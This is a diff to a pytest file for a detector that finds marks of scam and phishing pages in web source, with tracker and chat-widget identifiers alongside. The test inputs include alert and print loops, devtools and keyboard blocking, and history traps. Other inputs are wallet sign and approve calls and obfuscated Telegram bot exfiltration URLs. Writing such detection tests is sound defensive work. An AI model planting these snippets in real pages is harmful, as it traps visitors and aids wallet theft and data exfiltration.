@@ -36,6 +36,35 @@ TOKEN = "123456789:AA" + "x" * 33
         ("navigator.keyboard.lock()", ("behaviour", "keyboard-lock", "")),
         ("body{cursor:none}", ("behaviour", "hidden-cursor", "")),
         ('<div class="countdown"></div><script>setInterval(tick,1000)</script>', ("behaviour", "countdown", "")),
+        ("function a(){alert('x');setTimeout(a,100)}a()", ("behaviour", "dialog-loop", "")),
+        ("function a(){alert('x');a()}a()", ("behaviour", "dialog-loop", "")),
+        ("do{alert('x')}while(1)", ("behaviour", "dialog-loop", "")),
+        ("let n=0; while(n<9999){ window.alert('stay'); n++ }", ("behaviour", "dialog-loop", "")),
+        ("setInterval(window.print,500)", ("behaviour", "print-loop", "")),
+        ("function p(){print();setTimeout(p,10)}p()", ("behaviour", "print-loop", "")),
+        ("window.addEventListener(`beforeunload`,stay)", ("behaviour", "before-unload", "")),
+        ("navigator.clipboard.write([new ClipboardItem({})])", ("behaviour", "clipboard-write", "")),
+        ("document.oncontextmenu=()=>!1", ("behaviour", "no-context-menu", "")),
+        ("if(123==e.keyCode)return!1", ("behaviour", "devtools-block", "")),
+        ("if(e.ctrlKey&&e.shiftKey&&e.keyCode==73)return false", ("behaviour", "devtools-block", "")),
+        ("if(e.ctrlKey && e.shiftKey && e.key==='I')return false", ("behaviour", "devtools-block", "")),
+        ("Function('debugger')()", ("behaviour", "debugger-timer", "")),
+        ("<AUDIO SRC=a.mp3 AutoPlay>", ("behaviour", "audio-autoplay", "")),
+        ("document.querySelector('audio').play()", ("behaviour", "audio-autoplay", "")),
+        ("var x=document.getElementById('beep');x.loop=true;x.play()", ("behaviour", "audio-autoplay", "")),
+        ("<video autoplay loop src=alarm.mp4></video>", ("behaviour", "audio-autoplay", "")),
+        ("window.onhashchange=function(){location.hash='no-back'}", ("behaviour", "history-trap", "")),
+        ("document.onkeydown=e=>e.preventDefault()", ("behaviour", "keyboard-lock", "")),
+        ("phantom.solana.connect()", ("wallet", "connect", "")),
+        ("createAppKit({adapters})", ("wallet", "connect", "")),
+        ("okxwallet.request({method:'eth_accounts'})", ("wallet", "connect", "")),
+        ("tronWeb.trx.sign(tx)", ("wallet", "sign", "")),
+        ("await window.solana.signTransaction(tx)", ("wallet", "sign", "")),
+        ("signer.sendTransaction({to:x,value:y})", ("wallet", "sign", "")),
+        ("provider.send('wallet_sendCalls',[c])", ("wallet", "sign", "")),
+        ("fetch('https://api.tele'+'gram.org/bot'+t+'/send')", ("exfil", "telegram-bot", "")),
+        ("u='https://api.telegram.'+\"org/\" + 'bot'+t+'/sendMessage'", ("exfil", "telegram-bot", "")),
+        ("u=atob('aHR0cHM6Ly9hcGkudGVsZWdyYW0ub3JnL2JvdDEyMzQ1Njc4OTpBQUUw')", ("exfil", "telegram-bot", "")),
         ("Notification.requestPermission()", ("behaviour", "notification-prompt", "")),
         ("ethereum.request({method:'eth_requestAccounts'})", ("wallet", "connect", "")),
         ("contract.methods.approve(spender, max)", ("wallet", "approve", "")),
@@ -62,6 +91,32 @@ TOKEN = "123456789:AA" + "x" * 33
         ("//code.tidio.co/" + "a1" * 16 + ".js", ("chat", "tidio", "a1" * 16)),
         ("_MEIQIA('entId', '123456')", ("chat", "meiqia", "123456")),
         ('<div class="zalo-chat-widget" data-oaid="1234567890123456789">', ("chat", "zalo chat", "1234567890123456789")),
+        (
+            '<img src="https://www.facebook.com/tr?ev=PageView&amp;id=123456789012345&n=1">',
+            ("tracker", "facebook-pixel", "123456789012345"),
+        ),
+        ("fbq(`init`, `123456789012345`)", ("tracker", "facebook-pixel", "123456789012345")),
+        ("(window,document,'clarity','script','abcd1234ef')", ("tracker", "clarity", "abcd1234ef")),
+        ('<img src="https://mc.yandex.com/watch/87654321">', ("tracker", "yandex-metrika", "87654321")),
+        ('<img src="https://sstatic1.histats.com/0.gif?4567890&101">', ("tracker", "histats", "4567890")),
+        (
+            f'"sdk.51.la/js-sdk-pro.min.js"),{"n=e.x;" * 100}}}({{id:"K9abcdEFGH12",ck:"K9abcdEFGH12"}})',
+            ("tracker", "51la", "K9abcdEFGH12"),
+        ),
+        ("unescape(\"%3Cspan id='cnzz_stat_icon_1279812345'%3E%3C/span%3E\")", ("tracker", "cnzz", "1279812345")),
+        ("src='https://s9.cnzz.com/z_stat.php%3Fid%3D1279812345%26show%3Dpic'", ("tracker", "cnzz", "1279812345")),
+        ("_MEIQIA('entId', '8123456789abcdef0123456789abcdef')", ("chat", "meiqia", "8123456789abcdef0123456789abcdef")),
+        ("window.__lc={license:12345678};//cdn.livechatinc.com/tracking.js", ("chat", "livechat", "12345678")),
+        ('src="https://salesiq.zohopublic.com/widget?wc=siq0123456789abcdef"', ("chat", "zoho salesiq", "siq0123456789abcdef")),
+        ('src="https://qiyukf.com/script/' + "0a" * 16 + '.js"', ("chat", "qiyu", "0a" * 16)),
+        ('ChatraID="abcdEFGH12345678"', ("chat", "chatra", "abcdEFGH12345678")),
+        ('olark.identify("1234-567-89-1011")', ("chat", "olark", "1234-567-89-1011")),
+        ("https://web.chatbox.live800.com/live800/chatClient/x.js?companyID=12345", ("chat", "live800", "12345")),
+        ('window.replainSettings={id:"0123-4567"}', ("chat", "re:plain", "0123-4567")),
+        (
+            'ChannelIO("boot",{"pluginKey":"0a1b2c3d-0000-1111-2222-333344445555"})',
+            ("chat", "channel.io", "0a1b2c3d-0000-1111-2222-333344445555"),
+        ),
         ('<link href="/wp-content/themes/x.css">', ("technology", "WordPress", "")),
         ("<!-- Mirrored from bank.example/ by HTTrack Website Copier -->", ("technology", "HTTrack copy", "")),
         ('<form action="/next.php">', ("kit", "next.php", "/next.php")),
@@ -89,6 +144,16 @@ def test_a_mark_is_found_in_the_code_that_makes_it(source: str, mark: tuple[str,
         "<p>countdown to new year</p>",
         '<a href="/login.html">Log in</a><form action="/search.php">',
         "<p>cartoon, cartography</p>",
+        "function check(){if(!a.value){alert('Please fill in your name');return false}check()}",
+        "function tick(){if(left<1)alert('Your session has ended');setTimeout(tick,1000)}",
+        "function ask(){alert('Saved');window.location.reload()}function ask2(){ask()}",
+        "<video autoplay loop muted src=a.mp4></video><video autoplay playsinline src=b.mp4></video><video controls src=c.mp4></video>",
+        "var player=document.getElementById('video');player.play()",
+        "if(e.ctrlKey&&e.keyCode==73){italic()}",
+        "window.onhashchange=function(){route(location.hash)}",
+        "db.sendTransaction(rows)",
+        "https://www.facebook.com/try?id=12345678901",
+        "u='/img/bot.png'; v='/sendMessage'",
     ],
 )
 def test_ordinary_code_bears_no_mark(source: str) -> None:
@@ -109,6 +174,7 @@ def test_no_expression_of_a_rule_is_slow(rule: object) -> None:
     expressions = [e for e in (rule.near, rule.identity) if e is not None]  # type: ignore[attr-defined]
     window = rule.before + rule.after  # type: ignore[attr-defined]
     seeds = (b"(", b"a", b" ", b"setInterval(", b"for(;", b"while(", b'"', b"popstate", b"1", b"history.", b"'/(", b"A1")
+    seeds += (b"function a(){alert(", b"do{alert(", b"<video autoplay ", b"a=document.getElementById('audio')", b"id:'", b"ctrlKey")
     for expression in expressions:
         for seed in seeds:
             attack = (seed * (window // len(seed) + 1))[:window]
@@ -116,7 +182,11 @@ def test_no_expression_of_a_rule_is_slow(rule: object) -> None:
 
 
 @pytest.mark.parametrize(
-    "seed", ["alert(", "debugger;", "countdown", ".approve(", "tawk.to/chat/", "'GTM-ABCD", 'popstate"', "hm.baidu.com/hm.js"]
+    "seed",
+    [
+        *("alert(", "debugger;", "countdown", ".approve(", "tawk.to/chat/", "'GTM-ABCD", 'popstate"', "hm.baidu.com/hm.js"),
+        *("function a(){alert(", "<video autoplay ", "<audio ", "a=document.getElementById('audio').play(", "%3dsdk.51.la", "'+'g/bot"),
+    ],
 )
 def test_two_megabytes_of_heads_cost_little(seed: str) -> None:
     source = (seed * (2_000_000 // len(seed))).encode()
